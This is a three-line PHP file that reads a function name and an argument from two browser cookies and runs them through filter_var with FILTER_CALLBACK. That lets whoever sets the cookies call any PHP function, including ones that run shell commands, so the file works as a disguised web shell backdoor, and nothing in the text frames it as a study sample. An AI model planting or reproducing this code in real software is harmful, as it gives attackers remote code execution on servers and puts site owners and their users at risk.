<?php
$cb = isset($_COOKIE['cb']) ? $_COOKIE['cb'] : 'trim';
echo filter_var($_COOKIE['d'], FILTER_CALLBACK, array('options' => $cb));
